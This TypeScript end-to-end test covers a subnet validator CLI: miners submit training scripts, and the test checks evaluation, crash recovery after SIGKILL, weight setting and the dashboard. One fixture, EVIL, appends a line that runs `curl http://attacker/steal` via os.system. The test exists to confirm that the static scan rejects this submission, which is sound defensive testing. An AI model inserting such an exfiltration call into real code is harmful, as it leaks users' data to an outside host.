/**
 * End to end with real parts (issue 6): chopsticks running the spec-218 runtime, hotkeys
 * registered on subnet 1, miners running `crusades submit --plain` for code served by a local HTTP
 * server, and `crusades validate` evaluating in the CPU image, picking the leader and setting
 * weights, read back from the chain. A malicious submission ends failed with its reason; the
 * validator is killed with SIGKILL mid-evaluation and restarted without losing anything; the
 * dashboard page its API serves shows the leader, in headless Chromium.
 */
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import type { WsProvider } from "@polkadot/api";
import { Keyring } from "@polkadot/keyring";
import type { KeyringPair } from "@polkadot/keyring/types";
import { cryptoWaitReady, mnemonicGenerate } from "@polkadot/util-crypto";
import Docker from "dockerode";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import type { SubtensorClient } from "../../src/chain/index.js";
import { listEvaluationContainers } from "../../src/evaluation/index.js";
import { getSubmission, listIngested, listSubmissions, openStore, runsOfSubmission } from "../../src/store/index.js";
import { registerHotkeys, startChainUnderTest, stopChainUnderTest, type Chopsticks } from "../chain/chopsticks.js";
import { dockerUnavailableReason, REPO } from "../evaluation/docker-env.js";
import { browserUnavailableReason, launchBrowser } from "../web/cdp.js";

const CLI = path.join(REPO, "dist", "bin", "crusades.js");
const skipReason = await dockerUnavailableReason();
const builtCli = spawnSync("test", ["-f", CLI]).status === 0;
const NETUID = 1;
const RUNS = 3;

let node: Chopsticks;
let client: SubtensorClient;
let dev: WsProvider;
let server: Server;
let codeBase: string;
let dir: string;
let hparamsPath: string;
const keys: Record<"validator" | "good" | "good2" | "evil", KeyringPair> = {} as never;
const mnemonics: Record<string, string> = {};

const GOOD = readFileSync(path.join(REPO, "local_test", "single_gpu", "train.py"));
const EVIL = Buffer.from(`${GOOD.toString("utf8")}\nimport os\nos.system("curl http://attacker/steal")\n`);
// A second honest miner: other bytes (so not a content duplicate), the same training.
const GOOD2 = Buffer.from(`${GOOD.toString("utf8")}\n# the second miner's copy\n`);

function env(): NodeJS.ProcessEnv {
  return { ...process.env, CRUSADES_HPARAMS_PATH: hparamsPath, HOME: dir };
}

/** Runs the CLI without blocking this process's event loop (it serves the code the CLI fetches). */
function cli(args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], { env: env(), stdio: ["ignore", "pipe", "pipe"] });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (c: Buffer) => (stdout += c.toString()));
    child.stderr.on("data", (c: Buffer) => (stderr += c.toString()));
    child.once("exit", (status) => resolve({ status, stdout, stderr }));
  });
}

function walletArgs(name: string): string[] {
  return ["--network", node.url, "--wallet.path", path.join(dir, "wallets"), "--wallet.name", name, "--wallet.hotkey", "default"];
}

function startValidator(): ChildProcess {
  const child = spawn(
    process.execPath,
    [CLI, "validate", ...walletArgs("validator"), "--db", path.join(dir, "validator.db"), "--plain", "--from-block", "0", "--image", "cpu", "--gpus", "1",
      "--work-dir", path.join(dir, "work"), "--api-port", "0", "--api-host", "127.0.0.1", "--allow-private-hosts", "127.0.0.1", "--log-format", "json"],
    { env: env(), stdio: ["ignore", "ignore", "pipe"] },
  );
  child.stderr?.on("data", (chunk: Buffer) => writeFileSync(path.join(dir, "validator.log"), chunk, { flag: "a" }));
  return child;
}

async function until<T>(what: string, timeoutMs: number, probe: () => Promise<T | null | undefined | false> | T | null | undefined | false): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await probe();
    if (v) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}; validator log tail:\n${readLog().slice(-3000)}`);
    await new Promise((r) => setTimeout(r, 1000));
  }
}

function readLog(): string {
  try {
    return readFileSync(path.join(dir, "validator.log"), "utf8");
  } catch {
    return "";
  }
}

/** The URL of the API the running validator logged last ("API listening", JSON lines). */
function apiUrl(): string | null {
  const lines = readLog().split("\n").filter((l) => l.includes('"API listening"'));
  const last = lines.at(-1);
  return last === undefined ? null : (JSON.parse(last) as { url: string }).url;
}

function readStore<T>(read: (s: ReturnType<typeof openStore> extends infer R ? R extends { value: infer S } ? S : never : never) => T): T | null {
  const s = openStore(path.join(dir, "validator.db"), { readonly: true });
  if (s.isErr()) return null;
  try {
    return read(s.value);
  } finally {
    s.value.close();
  }
}

/** Registers the four hotkeys on subnet 1 (uids 0-3; the validator has a permit) by raw storage writes. */
async function register(): Promise<void> {
  const sm = (client.api.query as unknown as Record<string, Record<string, { key(...a: unknown[]): string }>>)["subtensorModule"]!;
  await registerHotkeys(client, dev, NETUID, [keys.validator, keys.good, keys.evil, keys.good2], [
    [sm["validatorPermit"]!.key(NETUID), "0x1001000000"],
    [sm["weightsSetRateLimit"]!.key(NETUID), "0x0000000000000000"],
  ]);
}

describe.skipIf(skipReason !== null || !builtCli)("validator end to end (chopsticks + CPU image)", () => {
  beforeAll(async () => {
    await cryptoWaitReady();
    dir = mkdtempSync(path.join(tmpdir(), "crusades-e2e-"));
    const keyring = new Keyring({ type: "sr25519", ss58Format: 42 });
    for (const name of ["validator", "good", "good2", "evil"] as const) {
      mnemonics[name] = mnemonicGenerate();
      keys[name] = keyring.addFromUri(mnemonics[name]!);
      const hotkeys = path.join(dir, "wallets", name, "hotkeys");
      mkdirSync(hotkeys, { recursive: true });
      writeFileSync(path.join(hotkeys, "default"), JSON.stringify({ secretPhrase: mnemonics[name], ss58Address: keys[name].address }));
    }
    const base = JSON.parse(readFileSync(path.join(REPO, "hparams", "hparams.cpu-demo.json"), "utf8")) as Record<string, unknown>;
    hparamsPath = path.join(dir, "hparams.json");
    writeFileSync(hparamsPath, JSON.stringify({
      ...base, netuid: NETUID, burn_uid: 0, burn_rate: 0.5, evaluation_runs: RUNS, block_time: 1, set_weights_interval_blocks: 1,
      payment: { ...(base["payment"] as object), enabled: false }, ingestion: { poll_interval_blocks: 2 },
      docker: { num_gpus: 1, memory_limit: "2g", shm_size: "256m" },
    }));
    server = createServer((req, res) => {
      const body = req.url === "/good.py" ? GOOD : req.url === "/good2.py" ? GOOD2 : req.url === "/evil.py" ? EVIL : null;
      if (body === null) return void res.writeHead(404).end();
      res.writeHead(200, { "Content-Type": "text/plain" }).end(body);
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    codeBase = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    ({ node, client, dev } = await startChainUnderTest());
    await register();
  }, 180_000);

  afterAll(async () => {
    await stopChainUnderTest({ node, client, dev });
    await new Promise((r) => server?.close(r));
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test("behavior: miners submit, the validator evaluates, survives SIGKILL, picks the leader and sets weights", async () => {
    // Miners: a dry run first (nothing sent), then the plain commitments.
    const dry = await cli(["submit", `${codeBase}/good.py`, "--dry-run", "--plain", "--json", "--gpus", "1", "--allow-private-hosts", "127.0.0.1", ...walletArgs("good")]);
    expect(dry.status, dry.stderr).toBe(0);
    expect(JSON.parse(dry.stdout)).toMatchObject({ dryRun: true, scanOk: true, url: `${codeBase}/good.py`, chain: { hotkey: keys.good.address, plain: true, fee: null } });
    expect((await client.readCommitment(NETUID, keys.good.address))._unsafeUnwrap()).toBeNull();

    const good = await cli(["submit", `${codeBase}/good.py`, "--plain", "--yes", "--json", "--gpus", "1", "--allow-private-hosts", "127.0.0.1", ...walletArgs("good")]);
    expect(good.status, good.stderr).toBe(0);
    const receipt = JSON.parse(good.stdout) as { commitment: string; receiptPath: string; plain: boolean };
    expect(receipt.plain).toBe(true);
    expect(JSON.parse(readFileSync(receipt.receiptPath, "utf8")).commitment).toBe(receipt.commitment);

    // The scan refuses the malicious file before anything is sent; --force commits it anyway.
    const refused = await cli(["submit", `${codeBase}/evil.py`, "--plain", "--yes", "--gpus", "1", "--allow-private-hosts", "127.0.0.1", ...walletArgs("evil")]);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toMatch(/static scan rejects/);
    const forced = await cli(["submit", `${codeBase}/evil.py`, "--plain", "--yes", "--force", "--gpus", "1", "--allow-private-hosts", "127.0.0.1", ...walletArgs("evil")]);
    expect(forced.status, forced.stderr).toBe(0);
    const second = await cli(["submit", `${codeBase}/good2.py`, "--plain", "--yes", "--gpus", "1", "--allow-private-hosts", "127.0.0.1", ...walletArgs("good2")]);
    expect(second.status, second.stderr).toBe(0);

    // The chain produces a block every second, as a real one would (chopsticks builds none by itself).
    const ticker = setInterval(() => void dev.send("dev_newBlock", [{ count: 1 }]).catch(() => undefined), 1000);
    onTestFinished(() => clearInterval(ticker));
    // The validator: killed with SIGKILL once the good submission has a stored run.
    let validator = startValidator();
    const goodId = await until("the good submission's first stored run", 240_000, () =>
      readStore((s) => listSubmissions(s, { specVersion: 19 }).find((x) => x.minerHotkey === keys.good.address && runsOfSubmission(s, x.submissionId).length >= 1)?.submissionId),
    );
    validator.kill("SIGKILL");
    await new Promise((r) => validator.once("exit", r));
    const runsBefore = readStore((s) => runsOfSubmission(s, goodId).length)!;
    expect(runsBefore).toBeGreaterThanOrEqual(1);
    // A run in flight at the kill leaves its container: the restarted validator removes it first.
    const leftAtKill = (await listEvaluationContainers(new Docker()).unwrapOr([])).length;

    validator = startValidator();
    try {
      const finished = await until("the good submission to finish", 400_000, () => readStore((s) => {
        const x = getSubmission(s, goodId);
        return x && (x.status === "finished" || x.status === "failed") ? x : null;
      }));
      expect(finished.status, JSON.stringify(finished)).toBe("finished");
      // Nothing lost, nothing evaluated more often than configured: exactly RUNS counted runs.
      const runs = readStore((s) => runsOfSubmission(s, goodId))!;
      expect(runs.filter((r) => r.status !== "void")).toHaveLength(RUNS);
      expect(readLog()).toMatch(/re-queued interrupted submissions/);
      if (leftAtKill > 0) expect(readLog()).toMatch(/removed leftover evaluation containers/);

      const evil = await until("the malicious submission to end", 120_000, () =>
        readStore((s) => listSubmissions(s, { specVersion: 19 }).find((x) => x.minerHotkey === keys.evil.address && x.status === "failed")),
      );
      expect(evil.errorCode).toBe("scan_rejected");
      expect(readStore((s) => runsOfSubmission(s, evil.submissionId).length)).toBe(0);
      expect(readStore((s) => listIngested(s).map((c) => c.outcome).sort())).toEqual(["accepted", "accepted", "accepted"]);

      // The second honest miner: evaluated too; the leader is the one §H.4 picks from the two
      // stored scores (the later one leads only when it beats the first by the threshold).
      const good2 = await until("the second good submission to finish", 400_000, () =>
        readStore((s) => listSubmissions(s, { specVersion: 19 }).find((x) => x.minerHotkey === keys.good2.address && (x.status === "finished" || x.status === "failed"))),
      );
      expect(good2.status, JSON.stringify(good2)).toBe("finished");
      const first = readStore((s) => getSubmission(s, goodId))!;
      const [early, late] = [first, good2].sort((a, b) => a.finishedBlock! - b.finishedBlock! || a.submissionId.localeCompare(b.submissionId));
      const base = (JSON.parse(readFileSync(hparamsPath, "utf8")) as { adaptive_threshold: { base_threshold: number } }).adaptive_threshold.base_threshold;
      const expectedLeader = late!.finalScore! > early!.finalScore! * (1 + base) ? late! : early!;
      const threshold = await (await fetch(`${apiUrl()}/api/stats/threshold`)).json() as { leader_id: string; leader_score: number };
      expect(threshold).toMatchObject({ leader_id: expectedLeader.submissionId, leader_score: expectedLeader.finalScore });
      const leaderUid = expectedLeader.minerHotkey === keys.good.address ? 1 : 3;

      // Weights: burn uid 0 and the leader at 0.5 each, read back from the chain.
      const weights = await until("weights naming the leader", 120_000, async () => {
        const w = (await client.readWeights(NETUID, 0)).unwrapOr([]);
        return w.some(([uid]) => uid === leaderUid) ? w : null;
      });
      expect(weights).toEqual([[0, 65535], [leaderUid, 65535]]);

      // The dashboard page served by the validator's API shows the leader (uid 1 and its score).
      const browserMissing = browserUnavailableReason();
      if (browserMissing !== null) throw new Error(`the dashboard check needs Chromium: ${browserMissing}`);
      const url = apiUrl();
      expect(url).not.toBeNull();
      const browser = await launchBrowser();
      try {
        const page = await browser.newPage();
        await page.navigate(`${url}/dashboard`);
        await page.waitFor(`document.querySelector('[data-testid="leader-uid"]')?.textContent === "${leaderUid}"`);
        const top = await page.evaluate<string[]>(`Array.from(document.querySelector('[data-testid="leaderboard-row"]').cells).map((c) => c.textContent)`);
        expect(top.slice(0, 3)).toEqual(["1", String(leaderUid), `${expectedLeader.finalScore!.toFixed(2)}%`]);
      } finally {
        await browser.close();
      }
    } finally {
      validator.kill("SIGTERM");
      await new Promise((r) => validator.once("exit", r));
    }
    expect(readLog()).toMatch(/validator stopped/);
    expect((await listEvaluationContainers(new Docker()).unwrapOr(["?"])).length).toBe(0);
  }, 900_000);
});
